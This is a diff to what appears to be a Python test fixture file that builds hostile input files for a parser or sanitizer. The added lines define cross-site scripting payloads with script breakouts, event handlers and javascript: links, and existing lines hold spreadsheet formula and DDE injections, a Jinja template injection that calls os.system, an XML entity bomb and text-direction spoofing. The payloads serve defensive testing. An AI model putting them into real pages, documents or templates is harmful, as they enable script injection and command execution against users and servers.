@@ -5,6 +5,7 @@
 
 from __future__ import annotations
 
+import html
 import os
 from dataclasses import dataclass
 from pathlib import Path
@@ -20,6 +21,11 @@ GOOD = (
 FORMULA = '=HYPERLINK("http://example.org/?"&A1,"click")'
 SCRIPT = '<script>alert("x")</script><img src=x onerror=alert(1)><style>body{display:none}</style>'
 ANSI = "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b[2J"
+PAYLOAD = (
+    "</script><script>window.pwned=1</script><img src=http://127.0.0.1:9/x onerror=window.pwned=2>"
+    "<svg onload=window.pwned=3><a href='javascript:window.pwned=4'>magnesium may help</a> "
+    '" autofocus onfocus=window.pwned=5 x="'
+)
 TEMPLATE = "{{ cycler.__init__.__globals__.os.system('touch pwned') }} {% for x in y %} ${7*7} `id`"
 BILLION = (
     '<?xml version="1.0"?><!DOCTYPE article [<!ENTITY a "lol lol lol lol lol lol lol lol ">'
@@ -82,6 +88,8 @@ FILES = (
     Hostile("fake.rtf", b"no rich text at all"),
     Hostile("script.html", _page(f"<h1>{SCRIPT}Rest</h1><p onclick='x()'>{SCRIPT} {_words(3)}</p>")),
     Hostile("injection.txt", f"{FORMULA}\n\n{GOOD}\n{SCRIPT}\n{TEMPLATE}\n".encode()),
+    Hostile("payload.txt", f"{PAYLOAD}\n\nMagnesium may help people sleep, and {PAYLOAD} studies have shown it (Roe 2012).\n\n{GOOD}".encode()),
+    Hostile("payload.html", f"<html><head><title>{html.escape(PAYLOAD)}</title><base href='javascript:window.pwned=6//'><link rel=canonical href='javascript:window.pwned=7'></head><body><article><h1>{html.escape(PAYLOAD)}</h1><p>Magnesium may help people sleep. {html.escape(PAYLOAD)} {_words(6)} <a href='javascript:window.pwned=8'>a study</a></p></article></body></html>".encode()),
     Hostile("formula.md", f"# {FORMULA}\n\n+1+cmd|' /C calc'!A0 may help people sleep well.\n\n@SUM(1) may help.\n\n-2+3 may help.\n".encode()),
     Hostile("ansi.txt", f"{ANSI}\n\n{ANSI} {GOOD}".encode()),
     Hostile("right_to_left.txt", f"\u202egnp.exe\u202c may help \u2067people\u2069 sleep. {_words(3)}".encode()),
